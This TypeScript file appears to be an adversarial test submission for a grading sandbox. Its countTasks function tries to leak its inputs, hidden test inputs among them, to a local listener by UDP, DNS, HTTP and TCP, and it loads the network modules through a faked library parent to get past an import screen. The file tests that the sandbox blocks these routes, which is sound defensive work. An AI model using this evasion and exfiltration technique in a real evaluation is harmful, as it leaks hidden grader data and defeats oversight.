/**
 * Adversarial submission 'network-side-doors' (graded by test/grading/adversarial.test.ts): the
 * reference solution of chapter 01 with countTasks altered (issue 17, class 5).
 *
 * countTasks sends its inputs (hidden ones among them) to 127.0.0.1 by every network class Node
 * has, each module reached around the import screen (a module built with a library file as its
 * parent): a UDP datagram (createSocket and the Socket class), a DNS query through a Resolver
 * pointed at the listener, an HTTP request, a TCP connection. Expected: no byte reaches the
 * listeners (the child has no network, or every class is closed in it); countTasks's cases are errors.
 */

import { makeLearner, type LearnerName } from 'nasbook';

import * as fs from 'fs';
import * as path from 'path';

/** Where this attack may leave traces (written beside this file by the test), with defaults. */
function attackConfig(): { markerDir: string; port: number } {
  try {
    return JSON.parse(fs.readFileSync(path.join(__dirname, 'attack.json'), 'utf8')) as { markerDir: string; port: number };
  } catch {
    return { markerDir: '/tmp', port: 47651 };
  }
}

/** A built-in module, loaded as if the library asked for it. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any
function asLibrary(name: string): any {
  const ModuleClass = module.constructor as unknown as new (id: string) => { require(id: string): unknown; filename: string };
  const file = path.join(path.dirname(require.resolve('nasbook')), 'index.js');
  const fake = new ModuleClass(file);
  fake.filename = file;
  return fake.require(name);
}

function within<T>(ms: number, work: Promise<T>): Promise<T> {
  return Promise.race([work, new Promise<T>((_, reject) => setTimeout(() => reject(new Error('no answer')), ms))]);
}

/** The attack: phone home by any class of network; answer only if one went through. */
export async function countTasks(xSize: number, ySize: number): Promise<number> {
  const { port } = attackConfig();
  const payload = `network-side-doors ${JSON.stringify([xSize, ySize])}`;
  const tries: [string, () => Promise<unknown>][] = [
    ['udp createSocket', () => new Promise((resolve, reject) => asLibrary('dgram').createSocket('udp4').send(payload, port, '127.0.0.1', (e: unknown) => (e ? reject(e) : resolve(0))))],
    ['udp Socket class', () => new Promise((resolve, reject) => new (asLibrary('dgram').Socket)({ type: 'udp4' }).send(payload, port, '127.0.0.1', (e: unknown) => (e ? reject(e) : resolve(0))))],
    ['dns Resolver', () => { const r = new (asLibrary('dns').Resolver)(); r.setServers([`127.0.0.1:${port}`]); return new Promise((resolve, reject) => r.resolve4(`x${xSize}-${ySize}.example`, (e: unknown) => (e ? reject(e) : resolve(0)))); }],
    ['dns promises', () => asLibrary('dns').promises.lookup(`x${xSize}-${ySize}.example`)],
    ['http request', () => new Promise((resolve, reject) => asLibrary('http').request({ host: '127.0.0.1', port, method: 'POST' }, resolve).on('error', reject).end(payload))],
    ['tcp connect', () => new Promise((resolve, reject) => { const s = asLibrary('net').connect(port, '127.0.0.1', () => s.end(payload, resolve)); s.on('error', reject); })],
  ];
  const failures: string[] = [];
  for (const [how, send] of tries) {
    try {
      await within(1000, send());
      return ySize ** xSize;
    } catch (e) {
      failures.push(`${how}: ${e instanceof Error ? e.message : String(e)}`);
    }
  }
  throw new Error(`not allowed: ${failures.join('; ')}`);
}
